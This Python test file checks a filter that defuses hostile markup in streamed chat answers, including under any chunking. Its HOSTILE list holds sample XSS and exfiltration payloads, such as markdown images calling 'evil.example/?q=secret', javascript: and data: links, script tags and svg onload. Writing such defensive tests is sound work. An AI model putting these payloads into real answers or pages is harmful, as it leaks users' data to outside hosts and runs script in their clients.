"""What an answer must not make a client do, whatever the model wrote and however it was cut."""

import json
import random
import re
import shutil
import subprocess

import pytest
from hypothesis import given, strategies as st

from query.chat.answer_markup import MarkupFilter
from tests.machine import ROOT, missing

EVIL = "https://evil.example/?q=secret"
HOSTILE = [
    f"![x]({EVIL})",
    f"![x](<{EVIL}>)",
    f"![x][r]\n\n[r]: {EVIL}",
    f"![r]\n\n[r]:\n{EVIL}",
    f"[1]: {EVIL}\n\nA dog [1].",
    "> - [r]: //evil.example\n\n[r] ![r][]",
    f"[click]({EVIL} 'title')",
    f"[![x]({EVIL})]({EVIL})",
    "[x](javascript:alert(1))",
    "[x](//evil.example)",
    "[x](data:text/html,<script>alert(1)</script>)",
    f"<{EVIL}>",
    f"<img src={EVIL}>",
    f"<IMG\nSRC='{EVIL}'>",
    f"<a href='{EVIL}'>x</a>",
    f"<div style='background:url({EVIL})'>",
    "<script>alert(1)</script>",
    "<!-- --><svg/onload=alert(1)>",
    "<?php ?><![CDATA[<b>x</b>]]>",
    f"see {EVIL} and HTTP://evil.example, ftp://evil.example or www.evil.example/x",
    f"` <img src={EVIL}>",
    f"| a | b |\n|---|---|\n| ` | ![x]({EVIL}) ` |",
    f"- `x\n- ![x]({EVIL})`",
    f"\\`![x]({EVIL})\\`",
    f"```\n```\n![x]({EVIL})",
    f"<[9]img src={EVIL}>",
    "htthttps://ps://evil.example",
]
FRAGMENTS = [
    "<", ">", "[", "]", "(", ")", "!", ":", "/", "//", "://", "http", "https", "www", ".", "`", "```", "\n", "\n\n",
    " ", "\\", "img", "a", "src=", "href=", "[r]", "[r]:", "evil.example", "|", "-", "*", "_", "&lt;", "1", "x",
]  # fmt: skip
HARMLESS = "p|br|strong|em|del|code|pre|blockquote|ul|ol|li|h[1-6]|table|thead|tbody|tr|th|td|hr"
ELEMENT = re.compile(rf"<(?!/?(?:{HARMLESS})\b)[a-z/!?]", re.IGNORECASE)
PLAIN = [
    "Two dogs on a beach [1][2], taken in 2024 (in May) [3].",
    "**Bold**, _soft_, a < b > c, 5 <3, [1], 【2】\n\n1. one\n2. two\n\n| a | b |\n|---|---|\n| 1 | 2 |",
    "`code` and\n\n```python\nx[0] = {'a': 1}\nif a < b: pass\n```\n",
    "Note: at 10:30 [1] http and https are protocols; the sign says www.",
]


def filtered(*pieces: str) -> str:
    markup_filter = MarkupFilter()
    return "".join(markup_filter.feed(piece) for piece in pieces)


@pytest.mark.parametrize("text", PLAIN)
def test_an_ordinary_answer_stays_as_it_is(text: str) -> None:
    assert filtered(text) == text


def test_code_stays_readable() -> None:
    assert filtered("```html\n<b>hi</b>\n```") == "```html\n< b>hi< /b>\n```"


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_is_removed(text: str) -> None:
    assert filtered(text).replace(" ", "") == text.replace(" ", "")


@pytest.mark.parametrize("text", [*HOSTILE, *PLAIN])
def test_one_cut_at_any_place_makes_no_difference(text: str) -> None:
    for cut in range(len(text) + 1):
        assert filtered(text[:cut], text[cut:]) == filtered(text)
    assert filtered(*text) == filtered(text)


@given(pieces=st.lists(st.lists(st.sampled_from(FRAGMENTS)).map("".join)))
def test_any_chunking_gives_the_same_text(pieces: list[str]) -> None:
    assert filtered(*pieces) == filtered("".join(pieces))


@given(text=st.lists(st.sampled_from(FRAGMENTS)).map("".join))
def test_filtering_twice_changes_nothing_more(text: str) -> None:
    assert filtered(filtered(text)) == filtered(text)


def test_a_renderer_makes_no_picture_no_link_and_no_element_of_it() -> None:
    """The page's own renderer, which lets HTML through and makes links of bare addresses, as many chat clients do."""
    if shutil.which("node") is None:
        missing("node")
    generator = random.Random(7)
    noise = ["".join(generator.choices(FRAGMENTS, k=generator.randrange(2, 40))) for _ in range(3000)]
    script = f"""
        import {{ marked }} from {json.dumps((ROOT / "web/page/vendor/marked.js").as_uri())};
        let text = "";
        for await (const chunk of process.stdin) text += chunk;
        const render = (each) => marked.parse(each, {{ gfm: true, breaks: true, async: false }});
        console.log(JSON.stringify(JSON.parse(text).map(render)));
    """
    command = ["node", "--input-type=module", "-e", script]

    def rendered(texts: list[str]) -> list[str]:
        done = subprocess.run(command, input=json.dumps(texts), capture_output=True, text=True, check=True)
        return list(json.loads(done.stdout))

    before, after = rendered([*HOSTILE, *noise]), rendered([filtered(text) for text in [*HOSTILE, *noise]])

    assert sum(bool(ELEMENT.search(html)) for html in before) > 100  # the test would notice
    assert [html for html in after if ELEMENT.search(html)] == []
